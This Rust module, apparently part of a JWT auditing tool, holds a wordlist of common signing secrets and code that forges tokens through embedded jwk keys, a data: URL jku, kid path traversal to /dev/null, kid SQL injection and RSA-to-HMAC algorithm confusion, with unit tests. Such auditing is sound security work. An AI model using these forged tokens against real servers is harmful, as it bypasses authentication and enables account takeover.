//! JSON Web Tokens of an attacker's making: signed with a key that the attacker knows or brings along.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use hmac::{Hmac, KeyInit, Mac};
use serde_json::{Value, json};
use sha2::{Sha256, Sha384, Sha512};

use super::shape::{self, Jwt};

/// Secrets from documentation, tutorials and defaults.
const COMMON: &[&str] = &[
    "secret",
    "Secret",
    "SECRET",
    "secretkey",
    "secret-key",
    "secret_key",
    "secretKey",
    "mysecret",
    "my-secret",
    "my_secret",
    "mysecretkey",
    "my-secret-key",
    "my_secret_key",
    "supersecret",
    "super-secret",
    "super_secret",
    "supersecretkey",
    "super-secret-key",
    "topsecret",
    "shhhhh",
    "shhhhhhared-secret",
    "jwt",
    "jwtsecret",
    "jwt-secret",
    "jwt_secret",
    "jwt_secret_key",
    "jwtkey",
    "jwt-key",
    "JWT_SECRET",
    "your-secret",
    "your_secret",
    "your-secret-key",
    "your_secret_key",
    "your-256-bit-secret",
    "your-384-bit-secret",
    "your-512-bit-secret",
    "a-string-secret-at-least-256-bits-long",
    "keyboard cat",
    "change-me",
    "change_me",
    "changeme",
    "changeit",
    "changethis",
    "dev",
    "development",
    "test",
    "testing",
    "default",
    "key",
    "token",
    "private",
    "password",
    "passw0rd",
    "123456",
    "12345678",
    "1234567890",
    "qwerty",
    "letmein",
    "admin",
    "root",
    "example",
    "example_key",
    "secret123",
    "thisisasecret",
    "this is a secret",
    "09d25e094faa6ca2556c818166b7a9563b93f7099f6f0f4caa6cf63b88e8d3e7",
    "",
];

/// The common secret with which the token is signed.
pub(super) fn weak_secret(token: &str) -> Option<&'static str> {
    let (text, signature) = token.rsplit_once('.')?;
    let jwt = Jwt::parse(token)?;
    let alg = jwt.header["alg"].as_str()?.to_owned();
    let signature = shape::decode(signature)?;
    COMMON
        .iter()
        .find(|secret| mac(&alg, secret.as_bytes(), text).as_ref() == Some(&signature))
        .copied()
}

/// The claims of the token under another header, signed with a key.
pub(super) fn signed(header: &Value, claims: &Value, key: &[u8]) -> Option<String> {
    let part = |json: &Value| URL_SAFE_NO_PAD.encode(json.to_string());
    let text = format!("{}.{}", part(header), part(claims));
    let alg = header.get("alg")?.as_str()?;
    let signature = URL_SAFE_NO_PAD.encode(mac(alg, key, &text)?);
    Some(format!("{text}.{signature}"))
}

fn mac(alg: &str, key: &[u8], text: &str) -> Option<Vec<u8>> {
    macro_rules! tag {
        ($hash:ty) => {{
            let mut mac = Hmac::<$hash>::new_from_slice(key).ok()?;
            mac.update(text.as_bytes());
            Some(mac.finalize().into_bytes().to_vec())
        }};
    }
    match alg {
        "HS256" => tag!(Sha256),
        "HS384" => tag!(Sha384),
        "HS512" => tag!(Sha512),
        _ => None,
    }
}

/// Tokens whose header brings the key along, or points to one that everybody knows.
pub(super) fn with_own_key(jwt: &Jwt) -> Vec<(&'static str, String)> {
    let key = b"fixation-audit's own key, known to nobody's server";
    let encoded = URL_SAFE_NO_PAD.encode(key);
    let jwk = json!({"kty": "oct", "kid": "fixation-audit", "alg": "HS256", "k": encoded});
    let set = json!({"keys": [jwk]}).to_string();
    let url = format!("data:application/json;base64,{}", STANDARD.encode(set));
    let header = |more: Value| {
        let mut header = json!({"alg": "HS256", "typ": "JWT"});
        if let (Some(header), Value::Object(more)) = (header.as_object_mut(), more) {
            header.extend(more);
        }
        header
    };
    let cases: [(&str, Value, &[u8]); 5] = [
        (
            "its own key as jwk",
            header(json!({"jwk": jwk, "kid": "fixation-audit"})),
            key,
        ),
        (
            "a jku that holds its own key",
            header(json!({"jku": url, "kid": "fixation-audit"})),
            key,
        ),
        (
            "a kid that is an empty file",
            header(json!({"kid": "../../../../../../../../dev/null"})),
            b"",
        ),
        (
            "a kid that is an absolute empty file",
            header(json!({"kid": "/dev/null"})),
            b"",
        ),
        (
            "a kid that is a piece of SQL",
            header(json!({"kid": "fixation-audit' UNION SELECT 'fixation-audit'-- "})),
            b"fixation-audit",
        ),
    ];
    cases
        .into_iter()
        .filter_map(|(what, header, key)| Some((what, signed(&header, &jwt.payload, key)?)))
        .collect()
}

/// Tokens for a server that verifies a MAC with what it holds as a public RSA key: the key as PEM, as files hold it.
pub(super) fn with_public_key(jwt: &Jwt, keys: &Value) -> Vec<String> {
    let mut tokens = Vec::new();
    let keys = keys.get("keys").and_then(Value::as_array);
    for key in keys.into_iter().flatten() {
        let part = |name: &str| shape::decode(key.get(name)?.as_str()?);
        let (Some(modulus), Some(exponent)) = (part("n"), part("e")) else {
            continue;
        };
        let mut header = json!({"alg": "HS256", "typ": "JWT"});
        if let Some(kid) = key.get("kid") {
            header["kid"] = kid.clone();
        }
        let pem = pem(&spki(&modulus, &exponent));
        for key in [pem.clone(), pem.trim_end().to_owned()] {
            tokens.extend(signed(&header, &jwt.payload, key.as_bytes()));
        }
    }
    tokens
}

fn pem(der: &[u8]) -> String {
    let text = STANDARD.encode(der);
    let lines: Vec<_> = text
        .as_bytes()
        .chunks(64)
        .map(String::from_utf8_lossy)
        .collect();
    format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        lines.join("\n")
    )
}

/// `SubjectPublicKeyInfo` of an RSA key, RFC 8017 and RFC 5280.
fn spki(modulus: &[u8], exponent: &[u8]) -> Vec<u8> {
    const RSA_ENCRYPTION: &[u8] = &[
        0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00,
    ];
    let key = tagged(0x30, &[integer(modulus), integer(exponent)].concat());
    let bits = tagged(0x03, &[&[0][..], &key].concat());
    tagged(0x30, &[RSA_ENCRYPTION, &bits].concat())
}

fn integer(bytes: &[u8]) -> Vec<u8> {
    let start = bytes.iter().position(|&b| b != 0).unwrap_or(bytes.len());
    let bytes = bytes.get(start..).unwrap_or_default();
    // A leading one would make it negative.
    let sign: &[u8] = if bytes.first().is_none_or(|&b| b >= 0x80) {
        &[0]
    } else {
        &[]
    };
    tagged(0x02, &[sign, bytes].concat())
}

fn tagged(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = content.len();
    let mut out = vec![tag];
    if let Ok(short) = u8::try_from(length)
        && short < 0x80
    {
        out.push(short);
    } else {
        let bytes = length.to_be_bytes();
        let start = bytes.iter().position(|&b| b != 0).unwrap_or(0);
        let bytes = bytes.get(start..).unwrap_or_default();
        out.push(0x80 | u8::try_from(bytes.len()).unwrap_or(8));
        out.extend_from_slice(bytes);
    }
    out.extend_from_slice(content);
    out
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::super::shape::Jwt;
    use super::{integer, pem, signed, spki, tagged, weak_secret};

    #[test]
    fn common_secrets_are_found_and_others_are_not() {
        for alg in ["HS256", "HS384", "HS512"] {
            let header = json!({"alg": alg});
            let token = signed(&header, &json!({"sub": "a"}), b"your-256-bit-secret").unwrap();
            assert_eq!(weak_secret(&token), Some("your-256-bit-secret"));
            let token = signed(&header, &json!({"sub": "a"}), b"4f2a9c0de1").unwrap();
            assert_eq!(weak_secret(&token), None);
        }
        assert_eq!(signed(&json!({"alg": "RS256"}), &json!({}), b"x"), None);
    }

    #[test]
    fn forged_tokens_keep_the_claims() {
        let token = signed(&json!({"alg": "HS256"}), &json!({"sub": "a"}), b"k").unwrap();
        let jwt = Jwt::parse(&token).unwrap();
        let forged = super::with_own_key(&jwt);
        assert_eq!(forged.len(), 5);
        for (_, token) in forged {
            assert_eq!(Jwt::parse(&token).unwrap().payload, json!({"sub": "a"}));
        }
    }

    #[test]
    fn lengths_and_signs_are_as_der_wants_them() {
        assert_eq!(integer(&[0x00, 0x7f]), [2, 1, 0x7f]);
        assert_eq!(integer(&[0x80]), [2, 2, 0, 0x80]);
        assert_eq!(tagged(4, &[0; 200])[..3], [4, 0x81, 200]);
        assert_eq!(tagged(4, &[0; 300])[..4], [4, 0x82, 1, 44]);
        // 2,048 bits and 65,537, as every tool makes them: 294 bytes.
        let der = spki(&[0xff; 256], &[1, 0, 1]);
        assert_eq!((der.len(), &der[..4]), (294, &[0x30, 0x82, 1, 0x22][..]));
        assert!(pem(&der).lines().all(|line| line.len() <= 64));
    }
}
